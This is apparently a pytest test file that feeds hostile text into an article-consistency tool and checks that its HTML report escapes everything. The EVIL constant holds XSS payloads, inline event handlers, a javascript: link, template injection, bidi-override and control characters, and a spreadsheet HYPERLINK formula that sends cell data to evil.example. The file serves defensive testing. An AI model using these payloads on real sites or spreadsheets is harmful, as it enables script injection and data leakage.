"""Articles that want to run a script, call home, hide what they say or drown the reader."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from consistency.baseline import load_baseline
from consistency.pipeline import check
from consistency.records import Article, BaselineEntry, Report, Review, Sentence
from consistency.settings import Settings
from consistency.writers.html import HtmlWriter

Open = Callable[..., Any]

EVIL = (
    "<script>alert(1)</script><img src=x onerror=alert(2)></script><!-- ]]> "
    '"><svg onload=alert(3)> =HYPERLINK("https://evil.example/?"&A1) '
    "\u202egnp.exe\u2066 \x1b[31m\x00\u2028\ud800 {{ 7*7 }}"
)


@pytest.fixture(scope="module")
def report() -> Report:
    def article(name: str, cost: int) -> Article:
        text = (
            f"{EVIL}\n\nThe bridge {EVIL} cost {cost} million dollars.\n\n"
            f"The {'very ' * 200_000}long bridge cost {cost} million dollars."
        )
        return Article(
            name + EVIL, text, EVIL, f"{name} {EVIL}", date(2024, 1, 2), "javascript:alert(4)", 'en" onload="x'
        )

    made = check([article("a", 90), article("b", 60)], Settings(embedding_model="stub", nli_model="stub"))
    review = Review("expired", EVIL, EVIL, date(2024, 1, 1), None, EVIL)
    text = EVIL.replace("\ud800", "")  # no baseline can hold half a character
    entry = BaselineEntry("e" * 16, "name", (text, text), (text, text), "accepted", text, None, text)
    judged = [replace(pair, review=review if i else None) for i, pair in enumerate(made.judged)]
    endless = Sentence(made.articles[1].id, 0, 1_000_000, f"The bridge cost {'very ' * 200_000}much.")
    judged.append(replace(judged[0], b=endless, fingerprint="endless"))
    return replace(
        made, corpus=EVIL, judged=tuple(judged), baseline=(entry,), stale=(entry,), changed_since=EVIL, tool=EVIL
    )


def test_nothing_runs_and_nothing_is_hidden(watched: Open, report: Report) -> None:
    assert report.findings
    html = HtmlWriter().write(report)
    assert len(html) < 300_000
    page = watched(html)
    for pair in page.locator("#list .pair").all():
        pair.get_by_role("button", name="Details").click()
    assert page.locator("img, iframe, object, embed, svg[onload]").count() == 0
    assert page.locator("script").count() == 2
    assert page.locator("a").evaluate_all("links => links.every(link => link.getAttribute('href').startsWith('#'))")
    attributes = "[...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames())"
    assert not [name for name in page.evaluate(attributes) if name.startswith("on")]
    words = page.locator("#list").inner_text()
    assert "<script>alert(1)</script>" in words
    assert "[U+202E]" in words
    assert "␛[31m" in words
    assert "\u202e" not in page.evaluate("document.body.innerText")


def test_the_review_of_a_hostile_finding_is_a_baseline_all_the_same(
    watched: Open, report: Report, tmp_path: Path
) -> None:
    page = watched(HtmlWriter().write(report))
    short = next(pair for pair in report.findings if len(pair.a.text) < 1000 and len(pair.b.text) < 1000)
    pair = page.locator(f"#pair-{short.fingerprint}")
    pair.get_by_role("button", name="Details").click()
    pair.get_by_label("Reason").fill(EVIL.replace("\x00", "").replace("\ud800", ""))
    pair.get_by_role("button", name="Mark").click()
    with page.expect_download() as waiting:
        page.get_by_role("button", name="Download baseline").click()
    waiting.value.save_as(tmp_path / "baseline.json")
    rows = json.loads((tmp_path / "baseline.json").read_text(encoding="utf-8"))["entries"]
    marked = next(row for row in rows if row["fingerprint"] == short.fingerprint)
    assert marked["articles"] == [short.a.article, short.b.article]
    assert len(load_baseline(tmp_path / "baseline.json")) == 2


def test_a_sentence_without_end_can_not_be_marked_here(watched: Open, report: Report) -> None:
    page = watched(HtmlWriter().write(report))
    pair = page.locator("#pair-endless")
    pair.get_by_role("button", name="Details").click()
    assert "too long to be marked here" in pair.inner_text()
    assert "The sentence is cut here" in pair.inner_text()
